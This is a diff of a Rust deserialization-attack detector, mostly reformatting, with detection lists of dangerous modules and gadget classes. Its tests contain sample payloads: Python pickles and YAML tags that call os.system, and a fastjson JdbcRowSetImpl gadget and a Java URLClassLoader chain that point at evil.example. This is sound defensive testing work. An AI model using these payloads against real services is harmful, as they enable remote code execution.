@@ -10,6 +10,9 @@ use super::Finding;
 use super::evidence::Best;
 use super::scan::{Classes, Cursor, before, find_text, has_text, part, positions, starts_with};
 
+/// Judges the bytes of a value in one notation.
+type Grammar = fn(&[u8]) -> Option<Finding>;
+
 /// How many bytes of a base64 text are decoded to look for names in it.
 const PEEK: usize = 160;
 
@@ -19,7 +22,7 @@ pub(super) fn find(value: &[u8], classes: Classes) -> Option<Finding> {
         return best.into_finding();
     }
     let pickle_like = classes.any(Classes::NEWLINE) || classes.any(Classes::HIGH);
-    let grammars: [(bool, fn(&[u8]) -> Option<Finding>); 7] = [
+    let grammars: [(bool, Grammar); 7] = [
         (classes.all(Classes::COLON.or(Classes::DOUBLE)), php),
         (classes.any(Classes::DOUBLE), json),
         (classes.any(Classes::BANG), yaml),
@@ -49,7 +52,8 @@ fn java(value: &[u8]) -> Option<Finding> {
     }
     let at = memchr::memmem::find(value, b"rO0AB")?;
     let tagged = value.get(at + 5).is_some_and(|byte| matches!(byte, b'X' | b'Q' | b'V' | b'W' | b'Y'));
-    (tagged && !before(value, at).is_some_and(is_base64)).then(|| Finding::certain("Java object stream in base64", at..at + 5))
+    (tagged && !before(value, at).is_some_and(is_base64))
+        .then(|| Finding::certain("Java object stream in base64", at..at + 5))
 }
 
 /// The header of a .NET `BinaryFormatter` stream, raw or base64.
@@ -68,13 +72,40 @@ fn is_base64(byte: u8) -> bool {
 
 /// Names that stand in a stream which does harm, in Python and in Ruby.
 const HARMFUL: &[&[u8]] = &[
-    b"system", b"subprocess", b"posix", b"builtins", b"__builtin__", b"eval", b"exec", b"popen", b"commands", b"os\n", b"nt\n", b"runpy", b"importlib", b"gem::", b"erb", b"deprecat",
-    b"kernel", b"net::", b"logger", b"reduce",
+    b"system",
+    b"subprocess",
+    b"posix",
+    b"builtins",
+    b"__builtin__",
+    b"eval",
+    b"exec",
+    b"popen",
+    b"commands",
+    b"os\n",
+    b"nt\n",
+    b"runpy",
+    b"importlib",
+    b"gem::",
+    b"erb",
+    b"deprecat",
+    b"kernel",
+    b"net::",
+    b"logger",
+    b"reduce",
 ];
 
 /// Base64 of a Python pickle or of Ruby's Marshal format, at the beginning of the value.
 fn base64_stream(value: &[u8]) -> Option<Finding> {
-    let python = [b"gASV".as_slice(), b"gAR", b"gAN", b"gAJ", b"Y29zCnN5c3RlbQ", b"Y3Bvc2l4", b"Y19fYnVpbHRpbl9f", b"Y2J1aWx0aW5z"];
+    let python = [
+        b"gASV".as_slice(),
+        b"gAR",
+        b"gAN",
+        b"gAJ",
+        b"Y29zCnN5c3RlbQ",
+        b"Y3Bvc2l4",
+        b"Y19fYnVpbHRpbl9f",
+        b"Y2J1aWx0aW5z",
+    ];
     let ruby = [b"BAhv".as_slice(), b"BAhb", b"BAh7", b"BAhJ", b"BAhV", b"BAhj"];
     let is_python = python.iter().any(|head| value.starts_with(head));
     if !is_python && !ruby.iter().any(|head| value.starts_with(head)) {
@@ -128,7 +159,8 @@ fn php(value: &[u8]) -> Option<Finding> {
         if !cursor.eat(b'"') {
             continue;
         }
-        let name = cursor.take_at_most(256, |byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'\\' | 0x80..));
+        let name =
+            cursor.take_at_most(256, |byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'\\' | 0x80..));
         if !name.is_empty() && cursor.eat(b'"') && cursor.eat(b':') {
             return Some(Finding::certain("serialised PHP object", at..cursor.at()));
         }
@@ -141,10 +173,39 @@ fn php(value: &[u8]) -> Option<Finding> {
 
 /// Beginnings of class names that no data model of an interface has.
 const CLASSES: &[&[u8]] = &[
-    b"com.sun.", b"java.", b"javax.", b"org.apache.", b"org.springframework.", b"ch.qos.logback.", b"com.mchange.", b"org.hibernate.", b"oracle.jdbc.", b"com.zaxxer.", b"org.codehaus.",
-    b"br.com.anteros.", b"com.ibatis.", b"com.alibaba.fastjson", b"org.jboss.", b"sun.", b"jdk.", b"com.caucho.", b"net.sf.ehcache.", b"org.eclipse.jetty.", b"system.windows.",
-    b"system.diagnostics.", b"system.management.automation.", b"system.configuration.install.", b"system.io.", b"system.security.", b"system.activities.", b"system.data.services.",
-    b"microsoft.visualstudio.", b"system.web.security.", b"system.collections.arraylist", b"system.identitymodel.", b"system.runtime.remoting.",
+    b"com.sun.",
+    b"java.",
+    b"javax.",
+    b"org.apache.",
+    b"org.springframework.",
+    b"ch.qos.logback.",
+    b"com.mchange.",
+    b"org.hibernate.",
+    b"oracle.jdbc.",
+    b"com.zaxxer.",
+    b"org.codehaus.",
+    b"br.com.anteros.",
+    b"com.ibatis.",
+    b"com.alibaba.fastjson",
+    b"org.jboss.",
+    b"sun.",
+    b"jdk.",
+    b"com.caucho.",
+    b"net.sf.ehcache.",
+    b"org.eclipse.jetty.",
+    b"system.windows.",
+    b"system.diagnostics.",
+    b"system.management.automation.",
+    b"system.configuration.install.",
+    b"system.io.",
+    b"system.security.",
+    b"system.activities.",
+    b"system.data.services.",
+    b"microsoft.visualstudio.",
+    b"system.web.security.",
+    b"system.collections.arraylist",
+    b"system.identitymodel.",
+    b"system.runtime.remoting.",
 ];
 
 /// A key that names a class (`"@type"`, `"$type"`, `"@class"`, `"class"`, `"__type"`), or a class name leading a list.
@@ -176,8 +237,25 @@ fn json(value: &[u8]) -> Option<Finding> {
 
 /// Tags of YAML that make objects.
 const TAGS: &[&[u8]] = &[
-    b"!!python/object", b"!!python/name", b"!!python/module", b"!!javax.", b"!!java.", b"!!com.", b"!!org.", b"!!sun.", b"!!ch.", b"!!ruby/", b"!ruby/object", b"!ruby/hash", b"!ruby/struct",
-    b"!ruby/class", b"!ruby/regexp", b"!php/object", b"!<tag:yaml.org,2002:python/", b"!<tag:yaml.org,2002:javax.", b"!!js/function",
+    b"!!python/object",
+    b"!!python/name",
+    b"!!python/module",
+    b"!!javax.",
+    b"!!java.",
+    b"!!com.",
+    b"!!org.",
+    b"!!sun.",
+    b"!!ch.",
+    b"!!ruby/",
+    b"!ruby/object",
+    b"!ruby/hash",
+    b"!ruby/struct",
+    b"!ruby/class",
+    b"!ruby/regexp",
+    b"!php/object",
+    b"!<tag:yaml.org,2002:python/",
+    b"!<tag:yaml.org,2002:javax.",
+    b"!!js/function",
 ];
 
 fn yaml(value: &[u8]) -> Option<Finding> {
@@ -195,7 +273,9 @@ fn node(value: &[u8]) -> Option<Finding> {
 
 /// Elements of Java's bean and object XML.
 fn xml(value: &[u8]) -> Option<Finding> {
-    if let Some(at) = find_text(value, b"<dynamic-proxy>", 0).or_else(|| find_text(value, b"<java.util.priorityqueue", 0)) {
+    if let Some(at) =
+        find_text(value, b"<dynamic-proxy>", 0).or_else(|| find_text(value, b"<java.util.priorityqueue", 0))
+    {
         return Some(Finding::certain("Java object in XML", at..at + 15));
     }
     for head in [b"class=\"java.".as_slice(), b"class=\"javax.", b"class='java.", b"class=\"com.sun."] {
@@ -208,7 +288,24 @@ fn xml(value: &[u8]) -> Option<Finding> {
 }
 
 /// Modules a pickle imports to do harm.
-const MODULES: &[&[u8]] = &[b"os", b"posix", b"nt", b"sys", b"subprocess", b"builtins", b"__builtin__", b"commands", b"runpy", b"importlib", b"timeit", b"code", b"pty", b"shutil", b"platform", b"socket"];
+const MODULES: &[&[u8]] = &[
+    b"os",
+    b"posix",
+    b"nt",
+    b"sys",
+    b"subprocess",
+    b"builtins",
+    b"__builtin__",
+    b"commands",
+    b"runpy",
+    b"importlib",
+    b"timeit",
+    b"code",
+    b"pty",
+    b"shutil",
+    b"platform",
+    b"socket",
+];
 
 /// `c<module>\n<name>\n` in text, or a binary protocol header and its closing `.`.
 fn pickle(value: &[u8]) -> Option<Finding> {
@@ -228,7 +325,10 @@ fn pickle(value: &[u8]) -> Option<Finding> {
             continue;
         }
         let name = cursor.take_at_most(32, |byte| super::scan::is_word(byte) || byte == b'.');
-        if !name.is_empty() && cursor.eat(b'\n') && matches!(cursor.peek(), Some(b'(' | b'p' | b'q' | b'U' | b'X' | 0x80..)) {
+        if !name.is_empty()
+            && cursor.eat(b'\n')
+            && matches!(cursor.peek(), Some(b'(' | b'p' | b'q' | b'U' | b'X' | 0x80..))
+        {
             return Some(Finding::certain("Python pickle that imports what it would run", at..cursor.at()));
         }
     }
@@ -252,18 +352,44 @@ mod tests {
         is_certain_of(
             DetectDeserialization,
             &[
-                "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "rO0ABQ==", "data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA", "aced00057372001164", "ACED0005737200", "0xaced",
-                "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0", "O:8:\"Evil\\Name\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}", "O:+8:\"stdClass\":0:{}", "a:1:{i:0;O:3:\"Foo\":0:{}}",
-                "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}", "user=O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:5:\"admin\";b:1;}", "{\\\"x\\\":O:4:\\\"User\\\":0:{}}",
-                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://evil.example/a\",\"autoCommit\":true}", "{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\"}", "{ \"@type\" : \"java.lang.AutoCloseable\" }",
-                "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://x\"}]", "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\", {}]", "{\"@class\":\"org.apache.commons.configuration.JNDIConfiguration\"}",
-                "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\"}", "{\"__type\":\"System.Diagnostics.Process\"}", "{\"b\":{\"@type\":\"java.net.Inet4Address\",\"val\":\"x\"}}",
-                "!!python/object/apply:os.system [\"id\"]", "- !!python/object/new:subprocess.Popen [[id]]", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]", "--- !ruby/object:Gem::Installer\ni: x\n", "!!com.sun.rowset.JdbcRowSetImpl\n dataSourceName: ldap://x",
-                "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}", "cos\nsystem\n(S'id'\ntR.", "cposix\nsystem\np0\n(S'id'\np1\ntp2\nRp3\n.", "c__builtin__\neval\n(S'1'\ntR.",
-                "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAZ3aG9hbWmUhZRSlC4=", "gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==", "Y29zCnN5c3RlbQooUydpZCcKdFIu",
-                "<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"/></java>", "<dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy>", "<void class=\"java.lang.Runtime\" method=\"getRuntime\">", "<ObjectDataProvider MethodName=\"Start\" x:Key=\"\">",
-            ]
-            .iter().copied().filter(|value| *value != "0xaced").collect::<Vec<_>>(),
+                "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
+                "rO0ABQ==",
+                "data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA",
+                "aced00057372001164",
+                "ACED0005737200",
+                "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0",
+                "O:8:\"Evil\\Name\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
+                "O:+8:\"stdClass\":0:{}",
+                "a:1:{i:0;O:3:\"Foo\":0:{}}",
+                "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}",
+                "user=O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:5:\"admin\";b:1;}",
+                "{\\\"x\\\":O:4:\\\"User\\\":0:{}}",
+                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://evil.example/a\",\"autoCommit\":true}",
+                "{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\"}",
+                "{ \"@type\" : \"java.lang.AutoCloseable\" }",
+                "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://x\"}]",
+                "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\", {}]",
+                "{\"@class\":\"org.apache.commons.configuration.JNDIConfiguration\"}",
+                "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\"}",
+                "{\"__type\":\"System.Diagnostics.Process\"}",
+                "{\"b\":{\"@type\":\"java.net.Inet4Address\",\"val\":\"x\"}}",
+                "!!python/object/apply:os.system [\"id\"]",
+                "- !!python/object/new:subprocess.Popen [[id]]",
+                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]",
+                "--- !ruby/object:Gem::Installer\ni: x\n",
+                "!!com.sun.rowset.JdbcRowSetImpl\n dataSourceName: ldap://x",
+                "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
+                "cos\nsystem\n(S'id'\ntR.",
+                "cposix\nsystem\np0\n(S'id'\np1\ntp2\nRp3\n.",
+                "c__builtin__\neval\n(S'1'\ntR.",
+                "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAZ3aG9hbWmUhZRSlC4=",
+                "gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
+                "Y29zCnN5c3RlbQooUydpZCcKdFIu",
+                "<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"/></java>",
+                "<dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy>",
+                "<void class=\"java.lang.Runtime\" method=\"getRuntime\">",
+                "<ObjectDataProvider MethodName=\"Start\" x:Key=\"\">",
+            ],
         );
         finds(DetectDeserialization, &["gASVIQAAAAAAAACMBWFiY2RllIwGYWJjZGVmlJOU"]);
     }
@@ -277,7 +403,12 @@ mod tests {
             b"\x80\x03cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.",
             b"\x04\x08o:\x15Gem::Requirement\x06",
         ] {
-            assert_eq!(find(DetectDeserialization, value).map(|found| found.grade), Some(Grade::Certain), "{}", value.escape_ascii());
+            assert_eq!(
+                find(DetectDeserialization, value).map(|found| found.grade),
+                Some(Grade::Certain),
+                "{}",
+                value.escape_ascii()
+            );
         }
     }
 
@@ -286,15 +417,61 @@ mod tests {
         is_quiet_about(
             DetectDeserialization,
             &[
-                "a:2:{s:3:\"foo\";i:1;s:3:\"bar\";b:1;}", "s:5:\"hello\";", "{\"@type\":\"Person\",\"@context\":\"https://schema.org\"}", "{\"@type\":\"type.googleapis.com/google.protobuf.Duration\"}",
-                "{\"type\":\"com.example.Order\"}", "{\"class\":\"btn btn-primary\"}", "{\"$type\":\"MyApp.Models.Order, MyApp\"}", "!!str 123", "!!int \"3\"", "wow!! great!", "!important",
-                "rO0m", "rock0AB", "XrO0ABXs", "AAEAAAD", "H4sIAAAAAAAAA", "gASP", "BAH7", "Bahnhof", "aced", "aced0005", "NO:1:\"x\":", "ratio O:2:1", "C:\\dir", "C:11", "cos\nsin\n(x)", "code\nblock\n(text)", "import os\nos.listdir()", "c\nd\n(", "_$$_", "<div class=\"java\">", "<script src=\"java.js\">", "gANotherName12345678",
+                "a:2:{s:3:\"foo\";i:1;s:3:\"bar\";b:1;}",
+                "s:5:\"hello\";",
+                "{\"@type\":\"Person\",\"@context\":\"https://schema.org\"}",
+                "{\"@type\":\"type.googleapis.com/google.protobuf.Duration\"}",
+                "{\"type\":\"com.example.Order\"}",
+                "{\"class\":\"btn btn-primary\"}",
+                "{\"$type\":\"MyApp.Models.Order, MyApp\"}",
+                "!!str 123",
+                "!!int \"3\"",
+                "wow!! great!",
+                "!important",
+                "rO0m",
+                "rock0AB",
+                "XrO0ABXs",
+                "AAEAAAD",
+                "H4sIAAAAAAAAA",
+                "gASP",
+                "BAH7",
+                "Bahnhof",
+                "aced",
+                "aced0005",
+                "NO:1:\"x\":",
+                "ratio O:2:1",
+                "C:\\dir",
+                "C:11",
+                "cos\nsin\n(x)",
+                "code\nblock\n(text)",
+                "import os\nos.listdir()",
+                "c\nd\n(",
+                "_$$_",
+                "<div class=\"java\">",
+                "<script src=\"java.js\">",
+                "gANotherName12345678",
             ],
         );
     }
 
     #[test]
     fn takes_linear_time() {
-        is_linear_in(DetectDeserialization, &["rO0AB", "aced0005", "O:1:\"", "O:8:\"aaaaaaaaaaaaaaaa", "\"type\":", "!!", "cos\n", "class=\"", "gASV", "<java", "C:1:\"a\":\"", "c"]);
+        is_linear_in(
+            DetectDeserialization,
+            &[
+                "rO0AB",
+                "aced0005",
+                "O:1:\"",
+                "O:8:\"aaaaaaaaaaaaaaaa",
+                "\"type\":",
+                "!!",
+                "cos\n",
+                "class=\"",
+                "gASV",
+                "<java",
+                "C:1:\"a\":\"",
+                "c",
+            ],
+        );
     }
 }
